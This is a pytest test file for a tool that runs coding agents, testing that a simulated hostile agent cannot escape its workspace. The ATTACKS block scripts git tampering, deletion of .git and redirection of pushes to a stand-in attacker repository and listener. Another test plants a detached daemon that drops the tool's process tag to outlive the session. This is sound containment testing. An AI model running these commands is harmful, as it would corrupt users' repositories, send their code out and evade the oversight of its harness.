"""A hostile command agent, through the real CLI: it fixes the bug and attacks the repository.

Whatever it runs, the user's repository is byte-identical afterwards but for the one selfheal
branch, origin gets exactly one selfheal commit on one new branch, and the attacker's URLs
(a bare repo and a listening socket) receive nothing.
"""

from __future__ import annotations

import json
import os
import shlex
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.forge.owned_dirs import PREFIXES
from tests.calc import CALC
from tests.cli import heal
from tests.conftest import MakeRepo, git
from tests.forge.states import refs, user_state

pytestmark = pytest.mark.slow


# Each line is one attack; its outcome goes to a log so the test can tell they really ran.
ATTACKS = """\
git branch evil
git tag v9.9.9
git config remote.origin.pushurl {attacker}
git config url.{listener}.insteadOf {origin}
git config push.followTags true
mkdir -p .git/info && echo 'calc/' > .git/info/exclude
git update-ref refs/heads/main HEAD~1
git checkout -B main
rm -f .git
git add -A
git -c user.name=evil -c user.email=evil@example.com commit -qm evil
git init -q && git add -A && git -c user.name=e -c user.email=e@x commit -qm evil
git branch -f main && git tag v9.9.9 && git config remote.origin.url {attacker}
"""
THROWAWAY = ("mkdir", "rm", "git init")  # what the agent may do: in its own tree only


def hostile_agent(tmp_path: Path, origin: Path, attacker: Path, listener: str) -> str:
    log = tmp_path / "attacks.log"
    lines = ATTACKS.format(origin=origin, attacker=attacker, listener=listener).splitlines()
    script = tmp_path / "hostile.sh"
    script.write_text(
        "#!/bin/sh\n"
        # The fix itself, so the run goes all the way to a proposal.
        "sed -i 's/min(value, low)/min(value, high)/' calc/ops.py\n"
        + "".join(
            f"if ( {line} ) >/dev/null 2>&1; then echo 'ok   {shlex.quote(line)[1:-1]}' >> {log};"
            f" else echo 'fail {shlex.quote(line)[1:-1]}' >> {log}; fi\n"
            for line in lines
        )
        + "echo 'fixed the upper bound'\n"
    )
    script.chmod(0o755)
    return f"sh {script}"


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A TCP port on loopback standing for the attacker's server; it must never be called."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        server.setblocking(False)
        yield server


def test_a_hostile_agent_reaches_nothing_outside_its_workspace(
    make_repo: MakeRepo, tmp_path: Path, listener: socket.socket
) -> None:
    # The temp dir, where the workspace goes, sits inside an enclosing repository.
    enclosing = make_repo({".gitignore": "tmp/\n", "outer.txt": "outer\n"}, origin=False)
    (enclosing / "tmp").mkdir()
    repo = make_repo(CALC)
    git(repo, "tag", "v1.0.0")
    origin = repo.parent / f"{repo.name}-origin.git"
    attacker = tmp_path / "attacker.git"
    git(tmp_path, "init", "-q", "--bare", str(attacker))
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/evil.git"
    agent = hostile_agent(tmp_path, origin, attacker, url)
    user_before, enclosing_before = user_state(repo), user_state(enclosing)
    origin_before = refs(origin)
    report_dir = tmp_path / "report"

    done = heal(
        repo, agent, "--report-dir", str(report_dir), env={"TMPDIR": str(enclosing / "tmp")}
    )

    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads((report_dir / "report.json").read_text())
    assert report["status"] == "healed"
    branch = report["proposal"]["branch"]
    sha = report["proposal"]["commit"]
    attacks = (tmp_path / "attacks.log").read_text().splitlines()
    assert len(attacks) == len(ATTACKS.splitlines())  # every attack was tried
    # Every git command failed for want of a repository, but those on the agent's own
    # throwaway repository (which selfheal never reads, and the proposal leaves out).
    worked = [a.split(None, 1)[1] for a in attacks if a.startswith("ok")]
    assert [a for a in worked if not a.startswith(THROWAWAY)] == [
        "git branch -f main && git tag v9.9.9 && git config remote.origin.url " + str(attacker)
    ]
    assert any(a.startswith("git init") for a in worked)

    # The user's repository: everything as it was, but the one new branch.
    user_after = user_state(repo)
    assert set(str(user_after.pop("refs")).splitlines()) - set(
        str(user_before.pop("refs")).splitlines()
    ) == {f"{sha} commit\trefs/heads/{branch}"}
    new_files = set(user_after.pop("git_files")) - set(user_before.pop("git_files"))  # type: ignore[call-overload]
    assert {f for f in new_files if not f.startswith("refs/heads/")} == set()
    assert user_after == user_before  # HEAD, index, config, info/exclude, status, files
    assert git(repo, "tag").split() == ["v1.0.0"]

    # Origin: one new branch holding exactly one selfheal commit on the base, and no tag.
    assert refs(origin) - origin_before == {f"{sha} refs/heads/{branch}"}
    assert origin_before <= refs(origin)
    assert git(origin, "rev-list", f"{report['base_sha']}..{sha}").split() == [sha]
    assert git(origin, "log", "-1", "--format=%an", sha).strip() != "evil"
    assert git(origin, "tag").split() == []
    assert "min(value, high)" in git(origin, "show", f"{sha}:calc/ops.py")
    assert git(origin, "diff", "--name-only", report["base_sha"], sha).split() == ["calc/ops.py"]

    # The attacker got nothing: no refs, no objects, no connection.
    assert refs(attacker) == set()
    assert "count: 0" in git(attacker, "count-objects", "-v")
    with pytest.raises(BlockingIOError):
        listener.accept()

    # The enclosing repository was never written, and no workspace was left in its tmp/.
    enclosing_after = user_state(enclosing)
    for state in (enclosing_after, enclosing_before):
        state["files"] = {k: v for k, v in state["files"].items() if not k.startswith("tmp/")}  # type: ignore[attr-defined]
    assert enclosing_after == enclosing_before
    left = [p for p in (enclosing / "tmp").iterdir() if p.name.startswith(PREFIXES)]
    assert left == []


def test_on_actions_the_adopted_checkout_keeps_its_git_dir_out_of_the_agents_reach(
    make_repo: MakeRepo, tmp_path: Path, listener: socket.socket
) -> None:
    # GitHub Actions: the checkout is the work tree and its .git is parked for the run.
    repo = make_repo(CALC)
    origin = repo.parent / f"{repo.name}-origin.git"
    attacker = tmp_path / "attacker.git"
    git(tmp_path, "init", "-q", "--bare", str(attacker))
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/evil.git"
    hostile = hostile_agent(tmp_path, origin, attacker, url)
    where = tmp_path / "agent-ran-in"
    (tmp_path / "recording.sh").write_text(f"pwd > {where}; ls -a > {where}.ls; exec {hostile}\n")
    agent = f"sh {tmp_path / 'recording.sh'}"
    before, origin_before = user_state(repo), refs(origin)
    temp = tmp_path / "temp"
    temp.mkdir()
    env = {"TMPDIR": str(temp), "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(repo)}

    done = heal(repo, agent, env=env)  # the report goes to .selfheal/ in the checkout

    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads((repo / ".selfheal" / "report.json").read_text())  # survived resets
    assert report["status"] == "healed"
    assert where.read_text().strip() == str(repo.resolve())  # adopted: no copy
    assert ".git" not in (tmp_path / "agent-ran-in.ls").read_text().split()
    sha, branch = report["proposal"]["commit"], report["proposal"]["branch"]
    attacks = (tmp_path / "attacks.log").read_text().splitlines()
    worked = [a.split(None, 1)[1] for a in attacks if a.startswith("ok")]
    assert [a for a in worked if not a.startswith(THROWAWAY)] == [
        "git branch -f main && git tag v9.9.9 && git config remote.origin.url " + str(attacker)
    ]
    after = user_state(repo)
    assert set(str(after.pop("refs")).splitlines()) - set(str(before.pop("refs")).splitlines()) == {
        f"{sha} commit\trefs/heads/{branch}"
    }
    new_files = set(after.pop("git_files")) - set(before.pop("git_files"))  # type: ignore[call-overload]
    assert {f for f in new_files if not f.startswith("refs/heads/")} == set()
    files = after.pop("files")
    assert {k: v for k, v in files.items() if not k.startswith(".selfheal/")} == before.pop("files")  # type: ignore[attr-defined]
    assert after == before  # HEAD, index, config, info/exclude, status, reflog, worktrees
    assert git(repo, "status", "--porcelain") == ""
    assert refs(origin) - origin_before == {f"{sha} refs/heads/{branch}"}
    assert git(origin, "diff", "--name-only", report["base_sha"], sha).split() == ["calc/ops.py"]
    assert git(origin, "tag").split() == []
    assert refs(attacker) == set()
    with pytest.raises(BlockingIOError):
        listener.accept()
    assert [p for p in temp.iterdir() if p.name.startswith(PREFIXES)] == []


def test_what_the_agent_leaves_running_is_ended_before_any_gate_runs(
    make_repo: MakeRepo, tmp_path: Path
) -> None:
    """The agent fixes the bug and leaves a daemon behind: a session of its own, selfheal's
    tag taken out of its environment. It is ended before the gate runs (a test of the
    project fails while it runs), and nothing of it outlives the heal."""
    pid_file = tmp_path / "daemon.pid"
    watcher = (
        "import os, pathlib\n\n\n"
        "def test_nothing_the_agent_started_still_runs():\n"
        f"    pid_file = pathlib.Path({str(pid_file)!r})\n"
        "    if pid_file.exists():\n"
        "        pid = int(pid_file.read_text())\n"
        "        try:\n"
        "            os.kill(pid, 0)\n"
        "        except ProcessLookupError:\n"
        "            return\n"
        "        raise AssertionError(f'the daemon {pid} still runs')\n"
    )
    repo = make_repo({**CALC, "tests/test_daemon.py": watcher})
    script = tmp_path / "leaves-a-daemon.sh"
    script.write_text(
        "#!/bin/sh\n"
        "sed -i 's/min(value, low)/min(value, high)/' calc/ops.py\n"
        f"env -u SELFHEAL_PROCESS_TAG setsid sh -c 'echo $$ > {pid_file}; exec sleep 60' &\n"
        f"while [ ! -s {pid_file} ]; do sleep 0.05; done\n"
    )
    report_dir = tmp_path / "report"
    done = heal(repo, f"sh {script}", "--report-dir", str(report_dir))
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads((report_dir / "report.json").read_text())
    assert report["status"] == "healed", report["detail"]
    assert report["attempts"][0]["outcome"] == "green"
    pid = int(pid_file.read_text())
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    events = [
        json.loads(line) for line in (report_dir / "transcript.jsonl").read_text().splitlines()
    ]
    ended = [(e["before"], e["ended"]) for e in events if e["event"] == "left_behind"]
    assert ended == [("verify 1", 1)]
